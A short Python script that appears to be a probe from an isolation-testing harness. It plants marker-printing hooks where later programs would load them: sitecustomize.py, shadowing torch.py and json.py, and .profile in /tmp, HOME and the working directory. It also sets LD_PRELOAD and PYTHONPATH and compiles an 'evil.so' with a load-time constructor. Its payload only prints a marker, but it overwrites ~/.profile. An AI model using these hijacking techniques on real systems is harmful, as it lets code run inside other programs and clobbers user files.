"""Plants files, variables and libraries where the next program in this place would load them."""

import os
import subprocess

HOOK = f"print({TARGET['mark']!r})\n"
attempted = 0
for folder in ("/tmp", "/dev/shm", os.environ["HOME"], os.getcwd()):
    for name in (
        "sitecustomize.py",
        "usercustomize.py",
        "torch.py",
        "json.py",
        ".pythonrc",
        ".profile",
        TARGET["mark"],
    ):
        with open(os.path.join(folder, name), "w") as file:
            attempted += file.write(HOOK) > 0
os.environ.update(LD_PRELOAD="/tmp/evil.so", PYTHONSTARTUP="/tmp/.pythonrc", PYTHONPATH="/tmp", PYTHONHOME="/tmp")
with open("/tmp/evil.c", "w") as file:
    file.write('#include <stdio.h>\n__attribute__((constructor)) void f(void) { puts("' + TARGET["mark"] + '"); }\n')
built = subprocess.run(["gcc", "-shared", "-fPIC", "-o", "/tmp/evil.so", "/tmp/evil.c"], env={"PATH": "/usr/bin:/bin"})
print(f"TRIED {attempted} files and a library ({'built' if built.returncode == 0 else 'no compiler'})")
